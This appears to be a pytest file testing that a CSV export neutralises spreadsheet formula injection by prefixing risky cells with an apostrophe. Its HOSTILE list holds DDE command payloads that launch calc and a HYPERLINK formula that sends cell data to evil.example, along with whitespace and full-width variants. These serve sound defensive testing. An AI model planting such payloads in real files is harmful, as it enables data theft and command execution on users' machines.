"""CSV formula injection: every cell a spreadsheet would evaluate is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from corrigo.domain.spreadsheet import neutralise_cell
from corrigo.store.export import csv_chunks, csv_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    " @SUM(A1)",
    "\uff1d1+1",  # full-width equals sign
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=",
    "-",
]
HARMLESS = ["", "typo", "a = b", "e-mail", "100", "user@example.org", "'quoted", "  spaces", "ok="]


@pytest.mark.parametrize("payload", HOSTILE)
def test_formula_cells_get_an_apostrophe(payload: str) -> None:
    cell = neutralise_cell(payload)
    assert cell == "'" + payload


@pytest.mark.parametrize("payload", HARMLESS)
def test_other_cells_are_left_alone(payload: str) -> None:
    assert neutralise_cell(payload) == payload


@pytest.mark.parametrize("payload", HOSTILE)
def test_csv_rows_carry_the_neutralised_text_through_a_csv_reader(payload: str) -> None:
    line = csv_row([1, payload, None, "plain"])
    [row] = list(csv.reader(io.StringIO(line, newline="")))
    assert row == ["1", "'" + payload, "", "plain"]
    # What a spreadsheet sees first in the cell is the apostrophe, never a formula sign.
    assert not row[1].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_are_not_touched() -> None:
    [row] = list(csv.reader(io.StringIO(csv_row([-5, 3.5, "x"]), newline="")))
    assert row == ["-5", "3.5", "x"]


def test_csv_document_has_header_rows_and_optional_bom() -> None:
    rows = [{"a": "=1", "b": 2}, {"a": "x,y\nz", "b": None}]
    text = "".join(csv_chunks(iter(rows), ("a", "b"), bom=True, per_chunk=1))
    assert text.startswith("\ufeffa,b\r\n")
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert parsed == [["a", "b"], ["'=1", "2"], ["x,y\nz", ""]]
    assert not "".join(csv_chunks(iter([]), ("a",))).startswith("\ufeff")
